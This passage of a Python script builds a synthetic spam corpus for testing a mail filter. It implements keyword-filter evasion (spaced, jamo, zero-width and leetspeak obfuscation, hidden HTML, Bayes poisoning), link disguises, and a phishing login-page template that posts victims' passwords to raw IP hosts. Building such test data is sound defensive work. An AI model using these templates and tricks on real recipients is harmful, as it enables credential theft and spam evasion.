"""Write the spam half of the Mailmoat corpus: corpus/{train,heldout}/spam/<category>-<nnn>.eml.

The texts are hand-written, one per base message, in corpus/sources/spam_texts/<category>.txt. This
script only dresses them the way spam arrives: senders' headers, charsets and transfer encodings,
HTML and multipart shapes, attachments and inline images, and the obfuscations spammers apply to
beat keyword filters. Some base messages get one or two obfuscated variants; a base message and all
its variants land in the same split (about 30% heldout, by a hash of the base message's id).

Which encoding and tricks each file carries is recorded in corpus/sources/spam_manifest.tsv, never
in the message itself.

Run from the repository root:  python corpus/sources/spam.py
"""

from __future__ import annotations

import base64
import hashlib
import html
import random
import re
import shutil
import urllib.parse
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import common  # noqa: E402

SOURCES = Path(__file__).resolve().parent
CORPUS = SOURCES.parent
TEXTS = SOURCES / "spam_texts"
MANIFEST = SOURCES / "spam_manifest.tsv"
HELDOUT_PERCENT = 30

CATEGORIES = [
    "adtag", "gambling", "loan", "phishing", "pharma", "stock",
    "adult", "imageonly", "listseller", "english", "scam",
]

# Words a keyword filter would look for; the obfuscations target these.
KEYWORDS = {
    "adtag": ["광고", "할인", "무료", "특가", "이벤트", "혜택", "증정", "상담", "분양", "창업", "보험"],
    "gambling": ["토토", "카지노", "바카라", "슬롯", "첫충", "매충", "먹튀", "놀이터", "배팅", "베팅", "홀덤",
                 "충전", "보너스", "가입", "입금", "환전", "스포츠", "라이브"],
    "loan": ["대출", "승인", "무직자", "신용", "저금리", "한도", "급전", "비상금", "현금화", "카드깡", "소액",
             "당일", "상담", "서민", "햇살론", "대환"],
    "phishing": ["로그인", "계정", "비밀번호", "환급", "확인", "인증", "결제", "배송", "보안", "정지", "본인"],
    "pharma": ["비아그라", "시알리스", "발기부전", "정력", "다이어트", "처방", "치료제", "직구", "정품", "효과",
               "낙태", "약국"],
    "stock": ["주식", "리딩", "급등", "종목", "수익", "코인", "무료", "체험", "추천", "상장", "선물", "투자"],
    "adult": ["만남", "성인", "조건", "야동", "출장", "안마", "무료", "섹스", "애인", "몰카", "영상", "채팅"],
    "imageonly": ["무료", "확인", "클릭"],
    "listseller": ["판매", "마케팅", "발송", "상위노출", "디비", "리뷰", "블로그", "문자", "고객", "대행"],
    "english": ["viagra", "bitcoin", "free", "invoice", "payment", "investment", "SEO", "profit", "million"],
    "scam": ["당첨", "송금", "수익", "알바", "부고", "청첩장", "고수익", "재택", "택배", "입금", "상속"],
}

INNOCENT = [line.strip() for line in (TEXTS / "innocent.txt").read_text("utf-8").splitlines() if line.strip()]
INNOCENT_KO = [s for s in INNOCENT if not s.isascii()]
INNOCENT_EN = [s for s in INNOCENT if s.isascii()]

RECIPIENTS = [
    "kim.minjun", "lee.seoyeon", "park.jihoon", "choi.yujin", "jung.hyunwoo", "kang.soyeon", "cho.donghyun",
    "yoon.jiwoo", "jang.minseo", "lim.taeyang", "han.eunji", "oh.sungmin", "seo.hana", "shin.jaehyuk",
    "kwon.nari", "hwang.jinho", "ahn.yerin", "song.kyungsoo", "info", "sales", "admin", "hr", "support",
    "contact", "webmaster", "office", "account", "marketing", "ceo", "help", "master", "design",
]
OFFICE = "corp.example"

SUBJECT_STYLES = [("b-utf-8", 40), ("q-utf-8", 9), ("b-euc-kr", 24), ("q-euc-kr", 4),
                  ("b-ks_c_5601-1987", 12), ("raw", 11)]
BODY_ENCODINGS = [
    (("utf-8", "base64", "same"), 28),
    (("utf-8", "quoted-printable", "same"), 12),
    (("utf-8", "8bit", "same"), 10),
    (("euc-kr", "base64", "same"), 15),
    (("euc-kr", "8bit", "same"), 8),
    (("ks_c_5601-1987", "base64", "same"), 12),
    (("ks_c_5601-1987", "quoted-printable", "same"), 4),
    (("utf-8", "8bit-undeclared", None), 3),
    (("ks_c_5601-1987", "8bit-undeclared", None), 3),
    (("euc-kr", "base64", "ks_c_5601-1987"), 2),
    (("iso-2022-kr", "7bit", "same"), 1),
]
SHAPES = [("plain", 30), ("html", 32), ("alternative", 30), ("related", 8)]
MAILERS = [
    "Microsoft Outlook 16.0", "Foxmail 7.2.25.228[cn]", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
    "Microsoft Office Outlook 12.0", "Daouoffice", "Bulk Mailer Pro 5.2", "Mozilla Thunderbird", "NateOn Mail",
    "ThunderMail", "WebMail", "Hiworks Mail", "Postman 3.1",
]

ADTAGS = ["(광고)", "(광고)", "(광고)", "[광고]", "[광고]", "(광 고)", "＜광고＞", "【광고】", "(廣告)", "(AD)",
          "[AD]", "(광고성 정보)", "(\u200b광고\u200b)", "（광고）", "［광고］", "(광\u200c고)", "<광고>",
          "(광.고)", "[ 광고 ]", "(광고)(AD)", "(ad)", "(광고) ", "【廣告】"]
AD_FOOTERS = [
    "※ 본 메일은 정보통신망법 제50조에 의거 수신에 동의하신 회원님께 발송되는 광고성 정보입니다.\n"
    "수신을 원하지 않으시면 [수신거부]를 눌러 주세요. 무료수신거부 {phone}",
    "본 메일은 발신전용입니다. 수신거부: {phone} (무료)\n{company} | 대표 {ceo} | 사업자등록번호 {bizno}",
    "[수신거부] 더 이상 메일을 원치 않으시면 여기를 클릭하세요.\n무료 수신거부 ☎ {phone}",
    "귀하의 이메일 주소는 웹 서핑 중 알게 된 것이며, 주소 외에 다른 정보는 갖고 있지 않습니다.\n"
    "원치 않는 정보였다면 사과드리며 수신거부를 눌러 주시면 다시는 발송되지 않습니다.",
    "무료거부 {phone}\n{company} 주소: {addr} / 통신판매업신고 {sales}",
    "이 메일은 {date} 기준 수신 동의 여부를 확인한 결과 수신 동의 상태로 발송되었습니다.\n"
    "수신을 원치 않으시면 [수신거부] 또는 {phone} 로 연락 주십시오.",
    "(광고) 수신거부 및 문의: {phone}",
]
COMPANIES = ["(주)한빛마케팅", "(주)다온커머스", "해오름상사", "(주)세움에듀", "(주)프라임애드", "누리온라인",
             "(주)비전컨설팅", "미래파트너스", "(주)하나로유통", "(주)씨엔비솔루션"]
CEOS = ["김정훈", "박성진", "이미경", "최동욱", "정하늘", "윤재석", "한지민", "오세훈"]
ADDRESSES = ["서울시 금천구 가산디지털1로 168", "경기도 성남시 분당구 판교로 242", "서울 구로구 디지털로 300",
             "부산광역시 해운대구 센텀중앙로 97", "인천 연수구 송도과학로 32", "서울 마포구 월드컵북로 21"]

EMOJI = ["🔥", "💰", "🎰", "🎁", "✅", "📢", "💯", "⭐", "❤️", "👉", "💎", "🍀", "⚡", "🎉", "💵", "📈", "🚀", "☎", "★", "♥", "▶", "◆"]
SEPARATORS = [" ", ".", ",", "-", "_", "/", "*", "~", "·", "|"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
OPTION = re.compile(r"^@(attach|image|shape|link|brand|notice|action|filename|inner|reply-to|footer|charset|"
                    r"alt|remote|slices|map|imgname|background|hidden|encode):(.*)$")
# Options that change how an image-only message shows its image (see ImageLayout).
IMAGE_LAYOUT_OPTIONS = ("alt", "remote", "slices", "map", "imgname", "background")
LINK = re.compile(r"\[([^\]\n]+)\]\(([^)\s]+)\)|(https?://[^\s<>\"')\]]+)")


@dataclass
class Base:
    category: str
    number: int
    sender_name: str
    sender_addr: str
    subject: str
    body: str
    options: dict[str, str] = field(default_factory=dict)

    @property
    def ident(self) -> str:
        return f"{self.category}:{self.number}"

    @property
    def heldout(self) -> bool:
        digest = hashlib.sha256(self.ident.encode()).digest()
        return int.from_bytes(digest[:4], "big") % 100 < HELDOUT_PERCENT


def parse_texts(category: str) -> list[Base]:
    """spam_texts/<category>.txt: each message starts with a line `=== Name <addr> | Subject`; its body
    follows, with `@key: value` option lines anywhere in it (attachments, images, shape, link, charset;
    for image-only mail alt, remote, slices, map, background, imgname; hidden and encode for HTML tricks).
    Messages are numbered in file order and new ones are only appended, so an id (and with it the
    split) never changes."""
    text = (TEXTS / f"{category}.txt").read_text("utf-8")
    bases = []
    for chunk in ("\n" + text).split("\n===")[1:]:
        head, _, rest = chunk.partition("\n")
        sender, _, subject = head.strip().partition("|")
        match = re.match(r"\s*(.*?)\s*<([^>]+)>\s*$", sender)
        if not match:
            raise SystemExit(f"{category}: bad sender line: {head!r}")
        options, body_lines = {}, []
        for line in rest.split("\n"):
            option = OPTION.match(line)
            if option:
                options[option.group(1)] = option.group(2).strip()
            else:
                body_lines.append(line)
        body = "\n".join(body_lines).strip("\n")
        bases.append(Base(category, len(bases) + 1, match.group(1).strip('"'), match.group(2), subject.strip(), body, options))
    return bases


def weighted(rng: random.Random, table):
    items, weights = zip(*table)
    return rng.choices(items, weights=weights)[0]


# ---------------------------------------------------------------- text obfuscations


def spaced(word: str, rng: random.Random) -> str:
    sep = rng.choice(SEPARATORS)
    if rng.random() < 0.25:
        return "[" + (sep + " " if sep == "," else sep).join(word) + "]"
    return sep.join(word)


LATIN_VOWELS = {"ㅏ": ["r", "r", "ㅏ"], "ㅐ": ["H", "H"], "ㅣ": ["l", "I", "1"], "ㅔ": ["11"], "ㅗ": ["ㅗ"]}
LATIN_LEADS = {"ㄱ": ["7"], "ㅇ": ["0", "o", "ㅇ"], "ㄹ": ["2"], "ㅌ": ["E"], "ㅂ": ["ㅂ"], "ㅅ": ["人"]}


def latinised(word: str, rng: random.Random) -> str:
    """Latin letters and digits standing in for jamo, as in 바ㅋr라, 비ㅇr그라, 7r입, ㄷH출."""
    out, changed = [], False
    candidates = [i for i, ch in enumerate(word) if common.is_syllable(ch)]
    targets = set(rng.sample(candidates, k=max(1, len(candidates) // 2))) if candidates else set()
    for i, ch in enumerate(word):
        if i not in targets:
            out.append(ch)
            continue
        lead, vowel, tail = common.decompose(ch)
        if vowel in LATIN_VOWELS and not tail:
            first = rng.choice(LATIN_LEADS.get(lead, [lead])) if rng.random() < 0.3 else lead
            out.append(first + rng.choice(LATIN_VOWELS[vowel]))
            changed = True
        elif lead == "ㅇ" and not tail and vowel == "ㅗ":
            out.append("0")
            changed = True
        elif tail == "ㄹ":
            out.append(common.compose(lead, vowel) + "2")
            changed = True
        else:
            out.append(ch)
    return "".join(out) if changed else jamo_spelled(word, rng, partial=True)


def jamo_spelled(word: str, rng: random.Random, partial: bool = False) -> str:
    """Compatibility jamo spelled out (ㄷㅐㅊㅜㄹ), for some syllables beside whole ones if partial."""
    out = []
    syllables = [i for i, ch in enumerate(word) if common.is_syllable(ch)]
    if not syllables:
        return word
    keep_whole = set(rng.sample(syllables, k=len(syllables) // 2)) if partial and len(syllables) > 1 else set()
    for i, ch in enumerate(word):
        if common.is_syllable(ch) and i not in keep_whole:
            out.append("".join(common.decompose(ch)))
        else:
            out.append(ch)
    return "".join(out)


def halfwidth(word: str, rng: random.Random) -> str:
    spelled = jamo_spelled(word, rng, partial=rng.random() < 0.4)
    return "".join(common.HALFWIDTH_JAMO.get(ch, ch) for ch in spelled)


def zero_width(word: str, rng: random.Random) -> str:
    mark = rng.choice(ZERO_WIDTH)
    return mark.join(word)


def full_width(word: str, rng: random.Random) -> str:
    if word.isascii():
        return common.fullwidth(word)
    return spaced(word, rng) if rng.random() < 0.5 else zero_width(word, rng)


def odd_case(word: str, rng: random.Random) -> str:
    if not word.isascii():
        return latinised(word, rng)
    table = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "$"}
    out = []
    for ch in word:
        roll = rng.random()
        if ch.lower() in table and roll < 0.3:
            out.append(table[ch.lower()])
        elif roll < 0.6:
            out.append(ch.swapcase())
        else:
            out.append(ch)
    return "".join(out)


TEXT_TRICKS = {
    "spacing": spaced,
    "latin": latinised,
    "jamo": lambda w, r: jamo_spelled(w, r, partial=r.random() < 0.5),
    "halfwidth": halfwidth,
    "zerowidth": zero_width,
    "fullwidth": full_width,
    "oddcase": odd_case,
}


def obfuscate_words(text: str, keywords: list[str], trick, rng: random.Random, share: float) -> str:
    """Apply trick to a share of the keyword occurrences in text (links left alone)."""
    pattern = re.compile("|".join(sorted(map(re.escape, keywords), key=len, reverse=True)), re.IGNORECASE)

    def replace_outside_links(segment: str) -> str:
        return pattern.sub(lambda m: trick(m.group(0), rng) if rng.random() < share else m.group(0), segment)

    out, last = [], 0
    for match in LINK.finditer(text):
        out.append(replace_outside_links(text[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(replace_outside_links(text[last:]))
    return "".join(out)


def ascii_words(text: str) -> list[str]:
    return [w for w in re.findall(r"\b[A-Za-z][A-Za-z0-9]{2,}\b", text) if not w.lower().startswith(("http", "www"))]


def spread_out(line: str, rng: random.Random) -> str:
    """Every Hangul syllable of a line set apart (`대 출 가 능`), not only the keywords."""
    sep = rng.choice([" ", " ", ".", "/", "_"])
    return re.sub(r"[\uac00-\ud7a3]{2,}", lambda m: sep.join(m.group(0)), line)


def sprinkle_emoji(text: str, rng: random.Random) -> str:
    lines = text.split("\n")
    for i in rng.sample(range(len(lines)), k=max(1, len(lines) // 3)):
        if lines[i].strip() and not LINK.search(lines[i]):
            e = rng.choice(EMOJI)
            lines[i] = f"{e} {lines[i]}" if rng.random() < 0.6 else f"{lines[i]} {e}{e if rng.random() < 0.3 else ''}"
    return "\n".join(lines)


def poison(rng: random.Random, english: bool, count: int | None = None) -> str:
    """Innocent text for bayes poisoning: whole sentences, or (as often in the wild) a salad of their
    words."""
    pool = INNOCENT_EN if english else (INNOCENT_KO if rng.random() < 0.85 else INNOCENT)
    sentences = rng.sample(pool, k=count or rng.randint(3, 7))
    if rng.random() < 0.35:
        words = " ".join(sentences).replace(".", "").split()
        rng.shuffle(words)
        return " ".join(words[: rng.randint(12, 40)])
    return " ".join(sentences)


def disguise_href(href: str, rng: random.Random) -> tuple[str, str]:
    """Ways phishing hides where a link goes, beyond what the text file already wrote."""
    parts = urllib.parse.urlsplit(href)
    host = parts.hostname or ""
    choice = rng.randrange(5)
    if choice == 0 and re.fullmatch(r"\d+\.\d+\.\d+\.\d+", host):
        number = int.from_bytes(bytes(int(x) for x in host.split(".")), "big")
        netloc = parts.netloc.replace(host, str(number))
        return urllib.parse.urlunsplit(parts._replace(netloc=netloc)), "href-decimal-ip"
    if choice == 1:
        return "https://www.google.com/url?sa=t&url=" + urllib.parse.quote(href, safe=""), "href-open-redirect"
    if choice == 2:
        path = "".join(f"%{ord(c):02X}" if c.isalnum() and rng.random() < 0.5 else c for c in parts.path)
        return urllib.parse.urlunsplit(parts._replace(path=path)), "href-percent-path"
    if choice == 3:
        return href + ("&" if "?" in href else "?") + "email=" + "{victim}", "href-victim-param"
    return rng.choice(["https://bit.ly/", "https://han.gl/", "https://me2.kr/", "https://url.kr/", "https://tinyurl.com/"]) + \
        "".join(rng.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(7)), "href-shortener"


FREEMAIL = ["naver.com", "naver.com", "daum.net", "hanmail.net", "gmail.com", "gmail.com", "nate.com", "outlook.com",
            "hotmail.com", "yahoo.com", "163.com", "qq.com"]
THROWAWAY_TLDS = ["com", "net", "xyz", "top", "shop", "info", "kr", "co.kr", "site", "online", "club", "icu"]


def rotated_sender(rng: random.Random) -> str:
    """Bulk senders rotate addresses: random freemail accounts or fresh throwaway domains."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    local = "".join(rng.choice(letters) for _ in range(rng.randint(3, 8))) + (str(rng.randint(1, 9999)) if rng.random() < 0.7 else "")
    if rng.random() < 0.6:
        return f"{local}@{rng.choice(FREEMAIL)}"
    word = "".join(rng.choice(letters) for _ in range(rng.randint(4, 9)))
    prefix = rng.choice(["", "", "mail.", "news.", "send.", "m."])
    return f"{local}@{prefix}{word}{rng.choice(['', '-kr', '24', str(rng.randint(1, 99))])}.{rng.choice(THROWAWAY_TLDS)}"


SMS_LIKE = ("loan", "scam", "phishing", "stock", "gambling")


def dress(subject: str, body: str, category: str, victim: str, rng: random.Random, notes: list[str]):
    """What bulk mailers add around a text: a greeting with the recipient's address, a reply/forward
    prefix, a random token that defeats duplicate detection, the [Web발신] mark of texts sent as SMS."""
    local = victim.split("@")[0]
    if category == "foreign":
        pass
    elif category != "english" and rng.random() < 0.12:
        greeting = rng.choice([f"{local}님 안녕하세요.", f"{victim} 고객님께", f"안녕하세요 {local} 님,",
                               f"{local}님, 좋은 하루 되세요!", f"[{victim}] 회원님께 보내드리는 안내입니다."])
        body = f"{greeting}\n\n{body}"
        notes.append("personal-greeting")
    elif category == "english" and rng.random() < 0.15:
        body = f"{rng.choice(['Dear', 'Hello', 'Hi'])} {local},\n\n{body}"
        notes.append("personal-greeting")
    roll = rng.random()
    if roll < 0.07:
        subject = rng.choice(["RE: ", "Re: ", "RE:", "답장: ", "회신: "]) + subject
        notes.append("subject-re")
    elif roll < 0.11:
        subject = rng.choice(["FW: ", "Fwd: ", "전달: "]) + subject
        notes.append("subject-fw")
    if rng.random() < 0.08:
        token = rng.choice([f"#{rng.randint(1000, 99999)}", f"({rng.randint(100, 9999)})",
                            "".join(rng.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(rng.randint(4, 8))),
                            f"[{rng.randint(1, 12):02d}/{rng.randint(1, 28):02d}]", f"No.{rng.randint(10, 999)}"])
        subject = f"{subject} {token}" if rng.random() < 0.8 else f"{token} {subject}"
        notes.append("subject-token")
    if category in SMS_LIKE and rng.random() < 0.08 and "[Web발신]" not in body:
        body = "[Web발신]\n" + body
        notes.append("web-balsin")
    return subject, body


# ---------------------------------------------------------------- HTML


HTML_WORD_TRICKS = ["ncr", "comment", "hiddenspan", "emptytag"]


def html_word(word: str, trick: str, rng: random.Random) -> str:
    if trick == "ncr":
        return "".join(f"&#{ord(c)};" if rng.random() < 0.8 else html.escape(c) for c in word)
    if trick == "comment":
        fillers = ["", " x ", "-", rng.choice(INNOCENT_KO)[:6], "mso", str(rng.randint(1, 999))]
        return f"<!--{rng.choice(fillers)}-->".join(html.escape(c) for c in word)
    if trick == "hiddenspan":
        junk = rng.choice(["font-size:0", "display:none", "font-size:0px;color:#fff", "visibility:hidden;font-size:1px"])
        filler = rng.choice(INNOCENT_KO)[: rng.randint(2, 5)]
        mid = max(1, len(word) // 2)
        return f'{html.escape(word[:mid])}<span style="{junk}">{html.escape(filler)}</span>{html.escape(word[mid:])}'
    # emptytag
    tag = rng.choice(["<b></b>", "<span></span>", "<font></font>", "<i></i>", "<u></u>"])
    return tag.join(html.escape(c) for c in word)


def html_text(segment: str, keywords: list[str], trick: str | None, rng: random.Random) -> str:
    if not trick or not keywords:
        return html.escape(segment, quote=False)
    pattern = re.compile("|".join(sorted(map(re.escape, keywords), key=len, reverse=True)), re.IGNORECASE)
    out, last = [], 0
    for match in pattern.finditer(segment):
        out.append(html.escape(segment[last : match.start()], quote=False))
        out.append(html_word(match.group(0), trick, rng) if rng.random() < 0.8 else html.escape(match.group(0)))
        last = match.end()
    out.append(html.escape(segment[last:], quote=False))
    return "".join(out)


def line_to_html(line: str, keywords, trick, rng) -> str:
    out, last = [], 0
    for match in LINK.finditer(line):
        out.append(html_text(line[last : match.start()], keywords, trick, rng))
        if match.group(3):
            url = match.group(3)
            out.append(f'<a href="{html.escape(url)}" target="_blank">{html.escape(url)}</a>')
        else:
            shown, href = match.group(1), match.group(2)
            out.append(f'<a href="{html.escape(href)}" target="_blank">{html_text(shown, keywords, trick, rng)}</a>')
        last = match.end()
    out.append(html_text(line[last:], keywords, trick, rng))
    return "".join(out)


def plain_links(text: str) -> str:
    """How a text/plain part shows [shown](href): the href, with the shown text before it unless the
    shown text is itself an address (generated text parts reveal the real target)."""

    def show(match: re.Match) -> str:
        if match.group(3):
            return match.group(3)
        shown, href = match.group(1), match.group(2)
        if re.match(r"(https?://|www\.)", shown):
            return href
        return f"{shown} <{href}>"

    return LINK.sub(show, text)


FONTS = ["굴림", "돋움", "맑은 고딕", "Malgun Gothic", "나눔고딕", "Gulim", "Dotum", "Arial"]
COLORS = ["#ff0000", "#0033cc", "#c00000", "#333333", "#ff6600", "#006633", "#7030a0", "#000000"]


@dataclass
class ImageLayout:
    """How an image-only message shows its image, when its text asks for more than one linked inline
    image: alt text, an image hosted elsewhere (`remote`), a banner cut into stacked slices, an image
    map whose areas link to different hosts, a table-cell background under a line of text."""
    alt: str = ""
    sources: list[str] = field(default_factory=list)
    map_links: list[str] = field(default_factory=list)
    background: bool = False

    def render(self, link: str | None, rng: random.Random) -> str:
        width = rng.choice([500, 600, 640, 700])
        alt = html.escape(self.alt)
        if self.background:
            src = html.escape(self.sources[0])
            cell = f'<a href="{html.escape(link)}" target="_blank">{alt or "&nbsp;"}</a>' if link else (alt or "&nbsp;")
            return (f'<table width="{width}" height="{rng.choice([400, 600, 800])}" cellpadding="0" cellspacing="0" '
                    f'background="{src}" style="background-image:url(\'{src}\');background-repeat:no-repeat">'
                    f'<tr><td valign="bottom" style="font-size:{rng.choice([1, 9, 12])}px;color:#ffffff">{cell}</td></tr></table>')
        if self.map_links:
            name = f"m{rng.randint(1, 9999)}"
            step = 800 // len(self.map_links)
            areas = "".join(f'<area shape="rect" coords="0,{i * step},{width},{(i + 1) * step}" href="{html.escape(href)}" alt="{alt}">'
                            for i, href in enumerate(self.map_links))
            return (f'<img src="{html.escape(self.sources[0])}" usemap="#{name}" border="0" width="{width}" alt="{alt}">'
                    f'<map name="{name}">{areas}</map>')
        images = "".join(f'<img src="{html.escape(src)}" border="0" width="{width}" alt="{alt if i == 0 else ""}" style="display:block">'
                         for i, src in enumerate(self.sources))
        return f'<a href="{html.escape(link)}" target="_blank">{images}</a>' if link else images


def to_html(body: str, keywords, trick, rng: random.Random, hidden: str | None, image_cid: str | None,
            image_link: str | None, white_poison: str | None, layout_of_image: ImageLayout | None = None) -> str:
    lines = body.split("\n")
    rendered = [line_to_html(line, keywords, trick, rng) for line in lines]
    layout = rng.choice(["div", "table", "font", "p", "center", "button", "mso"])
    if layout == "button" and not any(LINK.search(line) for line in lines):
        layout = "table"
    font = rng.choice(FONTS if not body.isascii() else [f for f in FONTS if f.isascii()])
    color = rng.choice(COLORS)
    parts = ["<html>", "<head>", '<meta http-equiv="Content-Type" content="text/html; charset={charset}">']
    if rng.random() < 0.3:
        parts.append("<title>" + html.escape(lines[0][:30]) + "</title>")
    parts.append("</head>")
    parts.append(rng.choice(["<body>", '<body bgcolor="#ffffff">', f'<body style="font-family:{font};font-size:13px">']))
    if hidden:
        style = rng.choice(["display:none", "display:none;visibility:hidden", "font-size:0;line-height:0;max-height:0;overflow:hidden",
                            "color:#ffffff;font-size:1px", "position:absolute;left:-9999px"])
        parts.append(f'<div style="{style}">{html.escape(hidden)}</div>')
    image_html = ""
    if layout_of_image and layout_of_image.sources:
        image_html = layout_of_image.render(image_link, rng)
    elif image_cid:
        img = f'<img src="cid:{image_cid}" border="0" width="{rng.choice([500, 600, 640, 700])}" alt="">'
        image_html = f'<a href="{html.escape(image_link)}" target="_blank">{img}</a>' if image_link else img
    if layout == "table":
        parts.append(f'<table width="{rng.choice([600, 640, 700, 720])}" align="center" cellpadding="0" cellspacing="0" border="0" style="border:1px solid #ddd">')
        parts.append(f'<tr><td style="background:{color};height:6px"></td></tr>')
        if image_html:
            parts.append(f"<tr><td>{image_html}</td></tr>")
        parts.append(f'<tr><td style="padding:20px;font-family:{font};font-size:14px;line-height:1.7">')
        parts.append("<br>\n".join(rendered))
        parts.append("</td></tr></table>")
    elif layout == "font":
        if image_html:
            parts.append(image_html + "<br>")
        parts.append(f'<font face="{font}" size="{rng.choice([2, 3, 4])}" color="{color}">')
        parts.append("<br>\n".join(rendered))
        parts.append("</font>")
    elif layout == "p":
        if image_html:
            parts.append(f"<p>{image_html}</p>")
        for line in rendered:
            parts.append(f'<p style="margin:0 0 6px 0">{line or "&nbsp;"}</p>')
    elif layout == "button":
        # The first link becomes a big call-to-action button; the other lines stay text.
        parts.append(f'<div style="max-width:600px;margin:0 auto;font-family:{font};font-size:15px;line-height:1.6">')
        if image_html:
            parts.append(image_html + "<br>")
        button_done = False
        for line, shown in zip(lines, rendered):
            match = LINK.search(line)
            if match and not button_done:
                href = match.group(2) or match.group(3)
                label = match.group(1) if match.group(1) and not match.group(1).startswith("http") else \
                    rng.choice(["바로가기", "지금 확인하기", "자세히 보기", "신청하기", "확인", "Click Here"])
                text_before = html_text(line[: match.start()], keywords, trick, rng)
                if text_before.strip():
                    parts.append(f"<p>{text_before}</p>")
                parts.append(f'<p style="text-align:center;margin:24px 0"><a href="{html.escape(href)}" '
                             f'style="background:{color};color:#ffffff;padding:14px 40px;border-radius:6px;'
                             f'text-decoration:none;font-weight:bold;display:inline-block">{html.escape(label)}</a></p>')
                button_done = True
            else:
                parts.append(f"<p style=\"margin:0 0 8px 0\">{shown or '&nbsp;'}</p>")
        parts.append("</div>")
    elif layout == "mso":
        # What Outlook / Word writes.
        parts[0] = ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
                    'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">')
        parts.insert(3, '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
                        '@font-face {font-family:"맑은 고딕"; panose-1:2 11 5 3 2 0 0 2 0 4;}\n'
                        'p.MsoNormal {margin:0cm; font-size:10.0pt; font-family:"맑은 고딕";}\n--></style>')
        parts.append('<div class="WordSection1">')
        if image_html:
            parts.append(f'<p class="MsoNormal">{image_html}<o:p></o:p></p>')
        for shown in rendered:
            inner = shown or "<o:p>&nbsp;</o:p>"
            parts.append(f'<p class="MsoNormal"><span lang="KO" style=\'font-size:10.0pt\'>{inner}<o:p></o:p></span></p>')
        parts.append("</div>")
    elif layout == "center":
        parts.append("<center>")
        if image_html:
            parts.append(image_html + "<br>")
        parts.append("<br>\n".join(f"<b>{line}</b>" if i == 0 and line else line for i, line in enumerate(rendered)))
        parts.append("</center>")
    else:
        parts.append(f'<div style="font-family:{font};font-size:14px">')
        if image_html:
            parts.append(image_html + "<br>")
        parts.append("<br>\n".join(rendered))
        parts.append("</div>")
    if white_poison:
        parts.append(f'<p style="color:#ffffff;font-size:{rng.choice([1, 2, 8])}px">{html.escape(white_poison)}</p>')
    parts.append("</body></html>")
    return "\n".join(parts)


# ---------------------------------------------------------------- attachments and images


def qr_image(rng: random.Random) -> bytes:
    """A picture that looks like a QR code (a 25x25 module grid with the three finder squares, a quiet
    zone, seeded random modules), as QR lures carry; it is not a decodable code."""
    size, scale, quiet = 25, 4, 4
    modules = [[rng.random() < 0.5 for _ in range(size)] for _ in range(size)]
    for top, left in ((0, 0), (0, size - 7), (size - 7, 0)):
        for dy in range(7):
            for dx in range(7):
                ring = max(abs(dy - 3), abs(dx - 3))
                modules[top + dy][left + dx] = ring != 2
    for i in range(8, size - 8):  # timing patterns
        modules[6][i] = modules[i][6] = i % 2 == 0
    side = (size + 2 * quiet) * scale

    def pixel(x: int, y: int) -> tuple[int, int, int]:
        mx, my = x // scale - quiet, y // scale - quiet
        dark = 0 <= mx < size and 0 <= my < size and modules[my][mx]
        return (0, 0, 0) if dark else (255, 255, 255)

    return common.png_bytes(side, side, pixel)


def random_image(rng: random.Random, kind: str) -> tuple[bytes, str, str]:
    if kind == "qr":
        return qr_image(rng), "image/png", "png"
    width, height = rng.choice([(40, 20), (60, 24), (32, 32), (48, 16), (24, 24), (80, 30)])
    c1 = tuple(rng.randrange(256) for _ in range(3))
    c2 = tuple(rng.randrange(256) for _ in range(3))
    stripe = rng.randint(2, 8)
    if kind == "png":
        data = common.png_bytes(width, height, lambda x, y: c1 if (x // stripe + y // stripe) % 2 else c2)
        return data, "image/png", "png"
    if kind == "gif":
        palette = [c1, c2, (255, 255, 255), (0, 0, 0)]
        data = common.gif_bytes(width, height, palette, lambda x, y: (x // stripe + y // (stripe + 1)) % 4)
        return data, "image/gif", "gif"
    rows, cols = rng.randint(1, 4), rng.randint(2, 8)
    data = common.jpeg_bytes([[rng.randrange(256) for _ in range(cols)] for _ in range(rows)])
    return data, "image/jpeg", "jpg"


LOGIN_FORM = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{brand} 로그인</title>
<style>body{{font-family:'Malgun Gothic',sans-serif;background:#f5f6f7}}.box{{width:360px;margin:80px auto;background:#fff;padding:30px;border:1px solid #ddd}}
input{{width:100%;padding:10px;margin:6px 0}}button{{width:100%;padding:12px;background:{color};color:#fff;border:0}}</style></head>
<body><div class="box"><h2>{brand}</h2><p>{notice}</p>
<form method="POST" action="{action}">
<input type="hidden" name="ref" value="{ref}">
<input type="email" name="email" value="{victim}" placeholder="아이디 또는 이메일">
<input type="password" name="pass" placeholder="비밀번호">
<button type="submit">로그인</button></form>
<p style="font-size:11px;color:#999">Copyright © {brand} Corp. All Rights Reserved.</p></div>
<script>document.forms[0].pass.focus();</script></body></html>
"""

REDIRECT_PAGE = """<html><head><meta http-equiv="refresh" content="0;url={action}"></head>
<body><script>window.location.href=atob("{encoded}")+"#{victim}";</script>문서를 불러오는 중입니다...</body></html>
"""


def attachment(kind: str, base: Base, rng: random.Random, victim: str) -> common.Part:
    brand = base.options.get("brand", base.sender_name or "Webmail")
    action = base.options.get("action", "http://" + rng.choice(["185.220.101.", "45.9.148.", "103.27.202."]) + str(rng.randint(2, 250)) + "/login/post.php")
    if kind == "html-login":
        page = LOGIN_FORM.format(brand=html.escape(brand), color=rng.choice(["#03c75a", "#fee500", "#0064ff", "#ffbc00", "#0078d4"]),
                                 notice=html.escape(base.options.get("notice", "보안을 위해 다시 로그인해 주세요.")), action=action,
                                 ref=hashlib.md5(base.ident.encode()).hexdigest()[:12], victim=victim)
        name = base.options.get("filename", rng.choice(["확인서.html", "보안인증.htm", "login_verify.html", "문서보기.html"]))
